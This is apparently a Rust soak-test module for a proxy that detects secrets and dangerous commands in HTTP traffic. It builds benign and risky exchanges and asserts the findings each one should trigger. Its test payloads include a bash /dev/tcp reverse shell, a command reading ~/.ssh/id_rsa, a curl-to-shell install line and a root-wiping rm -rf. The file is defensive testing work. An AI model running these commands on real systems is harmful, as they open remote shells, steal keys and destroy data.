//! The soak's traffic: the lanes through the guardian, the exchanges sent
//! on them, and exactly which findings each exchange must cause.
//!
//! The load generator knows what it sent, so it knows what the guardian
//! must record: an exchange's findings on a lane the guardian can see into
//! (plain HTTP, inspected HTTPS), and none on a tunnel.

use std::sync::LazyLock;

use bytes::Bytes;
use http::Method;
use traffic_guardian_test_support::{Reply, gzip};

use super::canary::{Canaries, SHARED_TOKENS};
use super::rng::Rng;

/// The runtime of clients without proxy credentials: HTTPS is tunnelled.
pub(crate) const PLAIN_RUNTIME: &str = "plain";
/// The runtime named by proxy user: HTTPS is inspected.
pub(crate) const INSPECTED_RUNTIME: &str = "inspected";

/// A way through the guardian.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub(crate) enum Lane {
    /// Plain HTTP from the plain runtime.
    PlainHttp,
    /// Plain HTTP from the inspected runtime (proxy user on each request).
    InspectedHttp,
    /// CONNECT, then HTTP/1.1 over TLS that the guardian decrypts.
    InspectedHttps,
    /// CONNECT, then HTTP/2 over TLS that the guardian decrypts.
    InspectedH2,
    /// CONNECT from the plain runtime: TLS end to end, the guardian sees
    /// only the tunnel.
    Tunnelled,
}

impl Lane {
    pub(crate) const ALL: [Lane; 5] = [
        Lane::PlainHttp,
        Lane::InspectedHttp,
        Lane::InspectedHttps,
        Lane::InspectedH2,
        Lane::Tunnelled,
    ];

    /// How often a connection takes this lane, relative to the others.
    pub(crate) fn weight(self) -> u64 {
        match self {
            Lane::PlainHttp => 3,
            Lane::InspectedHttp => 2,
            Lane::InspectedHttps => 3,
            Lane::InspectedH2 => 1,
            Lane::Tunnelled => 1,
        }
    }

    pub(crate) fn runtime(self) -> &'static str {
        match self {
            Lane::PlainHttp | Lane::Tunnelled => PLAIN_RUNTIME,
            Lane::InspectedHttp | Lane::InspectedHttps | Lane::InspectedH2 => INSPECTED_RUNTIME,
        }
    }

    /// The `protocol` the lane's findings carry, or `None` when the
    /// guardian cannot see the content (so no finding is expected).
    pub(crate) fn finding_protocol(self) -> Option<&'static str> {
        match self {
            Lane::PlainHttp | Lane::InspectedHttp => Some("http"),
            Lane::InspectedHttps | Lane::InspectedH2 => Some("https"),
            Lane::Tunnelled => None,
        }
    }

    pub(crate) fn tls(self) -> bool {
        !matches!(self, Lane::PlainHttp | Lane::InspectedHttp)
    }

    pub(crate) fn label(self) -> &'static str {
        match self {
            Lane::PlainHttp => "http, runtime plain",
            Lane::InspectedHttp => "http, runtime inspected",
            Lane::InspectedHttps => "https inspected, h1",
            Lane::InspectedH2 => "https inspected, h2",
            Lane::Tunnelled => "https tunnelled",
        }
    }

    pub(crate) fn key(self) -> &'static str {
        match self {
            Lane::PlainHttp => "http_plain",
            Lane::InspectedHttp => "http_inspected",
            Lane::InspectedHttps => "https_h1_inspected",
            Lane::InspectedH2 => "https_h2_inspected",
            Lane::Tunnelled => "https_tunnelled",
        }
    }
}

/// One request and the response it gets.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Exchange {
    /// GET a JSON API answer. No finding.
    Items,
    /// GET an HTML page of developer docs that only look risky. No finding.
    Page,
    /// POST a JSON note, echoed back. No finding.
    Note,
    /// POST a key never sent before (in the body, a header or the query).
    /// Dedup cannot merge these.
    UniqueKey,
    /// POST one of a few shared GitHub tokens. Dedup must merge these.
    SharedToken,
    /// POST a command naming `~/.ssh/id_rsa`. Dedup must merge these.
    KeyPath,
    /// GET an install script piped to a shell. Dedup must merge these.
    InstallScript,
    /// GET a gzip-encoded page that wipes the root folder. Dedup must
    /// merge these.
    Cleanup,
    /// POST a reverse-shell line to a fresh address, echoed back: a new
    /// injection each time, which dedup cannot merge.
    ReverseShell,
}

/// A finding an exchange must cause.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Expect {
    pub(crate) rule: &'static str,
    pub(crate) direction: &'static str,
    /// Every occurrence carries a value never seen before, so each must be
    /// its own line with `count` 1.
    pub(crate) unique: bool,
}

const fn expect(rule: &'static str, direction: &'static str, unique: bool) -> Expect {
    Expect {
        rule,
        direction,
        unique,
    }
}

/// Every rule the soak expects, with how it repeats.
pub(crate) const RULES: [Expect; 6] = [
    expect("ai_api_key", "outbound", true),
    expect("github_token", "outbound", false),
    expect("ssh_key_path", "outbound", false),
    expect("pipe_to_shell", "inbound", false),
    expect("destructive_rm", "inbound", false),
    expect("reverse_shell", "inbound", true),
];

/// What the load sends for one exchange.
#[derive(Debug, Clone)]
pub(crate) struct Request {
    pub(crate) method: Method,
    /// Origin-form path and query.
    pub(crate) path: String,
    pub(crate) headers: Vec<(&'static str, String)>,
    pub(crate) body: Bytes,
}

impl Exchange {
    pub(crate) const ALL: [Exchange; 9] = [
        Exchange::Items,
        Exchange::Page,
        Exchange::Note,
        Exchange::UniqueKey,
        Exchange::SharedToken,
        Exchange::KeyPath,
        Exchange::InstallScript,
        Exchange::Cleanup,
        Exchange::ReverseShell,
    ];

    /// How often the load picks this exchange, relative to the others:
    /// about half the traffic is benign.
    pub(crate) fn weight(self) -> u64 {
        match self {
            Exchange::Items => 20,
            Exchange::Page => 10,
            Exchange::Note => 20,
            Exchange::UniqueKey => 14,
            Exchange::SharedToken => 8,
            Exchange::KeyPath => 6,
            Exchange::InstallScript => 8,
            Exchange::Cleanup => 6,
            Exchange::ReverseShell => 8,
        }
    }

    /// The findings this exchange must cause where the guardian can see it.
    pub(crate) fn findings(self) -> &'static [Expect] {
        match self {
            Exchange::Items | Exchange::Page | Exchange::Note => &[],
            Exchange::UniqueKey => &RULES[0..1],
            Exchange::SharedToken => &RULES[1..2],
            Exchange::KeyPath => &RULES[2..3],
            Exchange::InstallScript => &RULES[3..4],
            Exchange::Cleanup => &RULES[4..5],
            Exchange::ReverseShell => &RULES[5..6],
        }
    }

    /// The request for the `n`th exchange of the run (`n` is unique).
    pub(crate) fn request(self, canaries: &Canaries, n: u64) -> Request {
        let get = |path: &str| Request {
            method: Method::GET,
            path: path.to_owned(),
            headers: vec![("accept", "*/*".into())],
            body: Bytes::new(),
        };
        let post = |path: String, content_type: &str, body: String| Request {
            method: Method::POST,
            path,
            headers: vec![("content-type", content_type.into())],
            body: Bytes::from(body),
        };
        match self {
            Exchange::Items => get("/items.json"),
            Exchange::Page => get("/page.html"),
            Exchange::InstallScript => get("/install.sh"),
            Exchange::Cleanup => get("/cleanup"),
            Exchange::Note => post(
                "/echo".into(),
                "application/json",
                format!(
                    r#"{{"id":{n},"note":"remember to update the changelog and run the tests","tags":["todo","docs"]}}"#
                ),
            ),
            Exchange::UniqueKey => {
                let key = canaries.unique_key(n);
                match n % 3 {
                    0 => post(
                        "/echo".into(),
                        "application/json",
                        format!(r#"{{"id":{n},"config":{{"api_key":"{key}"}}}}"#),
                    ),
                    1 => {
                        let mut request = post(
                            "/echo".into(),
                            "application/json",
                            format!(r#"{{"id":{n}}}"#),
                        );
                        request.headers.push(("x-api-key", key));
                        request
                    }
                    _ => post(
                        format!("/echo?id={n}&key={key}"),
                        "application/json",
                        format!(r#"{{"id":{n}}}"#),
                    ),
                }
            }
            Exchange::SharedToken => {
                let token = canaries.shared_token((n % SHARED_TOKENS as u64) as usize);
                if n.is_multiple_of(2) {
                    post(
                        "/echo".into(),
                        "text/plain",
                        format!("deploy log {n}\nGITHUB_TOKEN={token}\n"),
                    )
                } else {
                    let mut request =
                        post("/echo".into(), "text/plain", format!("deploy log {n}\n"));
                    request
                        .headers
                        .push(("authorization", format!("token {token}")));
                    request
                }
            }
            Exchange::KeyPath => post(
                "/echo".into(),
                "application/json",
                format!(r#"{{"id":{n},"command":"cat ~/.ssh/id_rsa"}}"#),
            ),
            Exchange::ReverseShell => {
                let [_, a, b, c] = (n as u32).to_be_bytes();
                let port = 1024 + (n >> 24) % 60_000;
                post(
                    "/echo".into(),
                    "text/plain",
                    format!("To debug, run: bash -i >& /dev/tcp/10.{a}.{b}.{c}/{port} 0>&1\n"),
                )
            }
        }
    }

    /// The response body the client must get back for `request`.
    pub(crate) fn response_body(self, request: &Request) -> Bytes {
        match self {
            Exchange::Items => ITEMS_JSON.clone(),
            Exchange::Page => Bytes::from_static(PAGE_HTML.as_bytes()),
            Exchange::InstallScript => Bytes::from_static(INSTALL_SCRIPT.as_bytes()),
            Exchange::Cleanup => CLEANUP_GZIP.clone(),
            Exchange::Note
            | Exchange::UniqueKey
            | Exchange::SharedToken
            | Exchange::KeyPath
            | Exchange::ReverseShell => request.body.clone(),
        }
    }

    /// Picks one exchange by weight.
    pub(crate) fn pick(rng: &mut Rng) -> Exchange {
        let weights: Vec<u64> = Exchange::ALL.iter().map(|e| e.weight()).collect();
        Exchange::ALL[rng.weighted(&weights)]
    }
}

/// A JSON API answer of about 1 KiB.
static ITEMS_JSON: LazyLock<Bytes> = LazyLock::new(items_json);

/// [`CLEANUP_TEXT`], gzip-compressed once so every answer is the same bytes.
static CLEANUP_GZIP: LazyLock<Bytes> = LazyLock::new(|| Bytes::from(gzip(CLEANUP_TEXT.as_bytes())));

fn items_json() -> Bytes {
    let item =
        r#"{"id":1042,"name":"blue widget","tags":["tools","garden"],"price":9.99,"stock":17},"#;
    let mut json = String::from(r#"{"items":["#);
    while json.len() + item.len() < 1020 {
        json.push_str(item);
    }
    json.pop();
    json.push_str("]}");
    Bytes::from(json)
}

/// Developer documentation that names risky-looking commands the rules
/// must leave alone.
const PAGE_HTML: &str = r#"<!doctype html>
<html><head><title>Getting started</title></head>
<body>
<h1>Getting started</h1>
<p>Clone the repository, then install the dependencies:</p>
<pre><code>npm ci
rm -rf node_modules/.cache
curl -O https://releases.example.com/tool-1.4.2.tar.gz
tar -xzf tool-1.4.2.tar.gz</code></pre>
<p>Generate a deploy key with <code>ssh-keygen -t ed25519 -C deploy</code> and paste the
<em>public</em> half into the settings page.</p>
<p>Build id 3f9c2e1a7b6d4c8e9f0a1b2c3d4e5f60718293a4, released 2026-02-11.</p>
</body></html>
"#;

/// An install script that pipes a download into a shell.
const INSTALL_SCRIPT: &str = "#!/bin/sh\n# Quick install:\n#   curl -fsSL https://get.soak.example/install.sh | sh\necho installing\n";

/// A page that tells the reader to wipe the root folder (sent gzip-encoded).
const CLEANUP_TEXT: &str =
    "Out of disk space? Free everything with: sudo rm -rf --no-preserve-root /\n";

/// The upstream's routes, served alike in plain HTTP and over TLS.
pub(crate) fn routes() -> Vec<(&'static str, Reply)> {
    vec![
        (
            "/items.json",
            Reply::Text("application/json", ITEMS_JSON.clone()),
        ),
        (
            "/page.html",
            Reply::Text("text/html", Bytes::from_static(PAGE_HTML.as_bytes())),
        ),
        (
            "/install.sh",
            Reply::Text(
                "text/x-shellscript",
                Bytes::from_static(INSTALL_SCRIPT.as_bytes()),
            ),
        ),
        ("/cleanup", Reply::Gzip(CLEANUP_GZIP.clone())),
        ("/echo", Reply::Echo),
    ]
}

#[cfg(test)]
mod tests {
    use traffic_guardian_core::{Direction, Engine, EngineConfig, Finding, MessageMeta, Protocol};

    use super::*;

    /// The engine as the guardian builds it: with a fingerprint key, so
    /// dedup keys on the matched value.
    fn engine() -> Engine {
        Engine::new(EngineConfig {
            fingerprint_key: Some(vec![7; 32]),
            ..EngineConfig::default()
        })
        .unwrap()
    }

    /// The response the upstream gives `request`: content type, content
    /// encoding, body.
    fn response(exchange: Exchange, request: &Request) -> (String, Option<&'static str>, Bytes) {
        let route = routes()
            .into_iter()
            .find(|(path, _)| request.path.split('?').next() == Some(*path))
            .map(|(_, reply)| reply);
        let body = exchange.response_body(request);
        match route {
            Some(Reply::Text(content_type, _)) => (content_type.into(), None, body),
            Some(Reply::Gzip(_)) => ("text/plain".into(), Some("gzip"), body),
            Some(Reply::Echo) => {
                let content_type = request
                    .headers
                    .iter()
                    .find(|(name, _)| *name == "content-type")
                    .map(|(_, value)| value.clone())
                    .unwrap_or_default();
                (content_type, None, body)
            }
            other => panic!("no route for {}: {other:?}", request.path),
        }
    }

    /// Scans one exchange as the guardian does: the request's target,
    /// headers and body outbound, then the response's headers and body
    /// inbound.
    fn scan(engine: &Engine, exchange: Exchange, request: &Request) -> Vec<Finding> {
        let meta = |direction| {
            MessageMeta::new(direction, "127.0.0.1:40000", "127.0.0.1:8443")
                .with_protocol(Protocol::Https)
                .with_runtime(INSPECTED_RUNTIME)
                .with_method(request.method.as_str())
                .with_target(request.path.clone())
        };
        let mut outbound = engine.message(meta(Direction::Outbound));
        outbound.scan_target(&request.path);
        outbound.scan_header("host", b"127.0.0.1:8443");
        for (name, value) in &request.headers {
            outbound.scan_header(name, value.as_bytes());
        }
        let content_type = request
            .headers
            .iter()
            .find(|(name, _)| *name == "content-type")
            .map(|(_, value)| value.as_str());
        outbound.begin_body(None, content_type);
        outbound.feed(&request.body);
        let mut findings = outbound.finish().findings;

        let (content_type, encoding, body) = response(exchange, request);
        let mut inbound = engine.message(meta(Direction::Inbound));
        inbound.scan_header("content-type", content_type.as_bytes());
        inbound.begin_body(encoding, Some(&content_type));
        inbound.feed(&body);
        findings.extend(inbound.finish().findings);
        findings
    }

    #[test]
    fn every_exchange_causes_exactly_the_findings_the_soak_expects() {
        let engine = engine();
        let canaries = Canaries::new(&mut Rng::new(11));
        for n in 0..60 {
            for exchange in Exchange::ALL {
                let request = exchange.request(&canaries, n);
                let findings = scan(&engine, exchange, &request);
                let got: Vec<(String, String)> = findings
                    .iter()
                    .map(|f| (f.pattern.to_string(), f.direction.to_string()))
                    .collect();
                let want: Vec<(String, String)> = exchange
                    .findings()
                    .iter()
                    .map(|e| (e.rule.to_owned(), e.direction.to_owned()))
                    .collect();
                assert_eq!(got, want, "{exchange:?} #{n}: {request:?}");
                for finding in &findings {
                    let line = finding.to_json_line();
                    for tag in canaries.tags() {
                        assert!(!line.contains(tag), "{exchange:?} #{n} leaks: {line}");
                    }
                }
            }
        }
    }

    #[test]
    fn unique_exchanges_give_distinct_values_and_shared_ones_do_not() {
        let engine = engine();
        let canaries = Canaries::new(&mut Rng::new(12));
        for exchange in Exchange::ALL {
            let Some(expect) = exchange.findings().first() else {
                continue;
            };
            let subjects: std::collections::HashSet<String> = (0..30)
                .map(|n| {
                    let finding =
                        scan(&engine, exchange, &exchange.request(&canaries, n)).remove(0);
                    finding.fingerprint.unwrap_or(finding.snippet)
                })
                .collect();
            if expect.unique {
                assert_eq!(subjects.len(), 30, "{exchange:?}");
            } else {
                assert!(
                    subjects.len() <= SHARED_TOKENS,
                    "{exchange:?}: {subjects:?}"
                );
            }
        }
    }
}
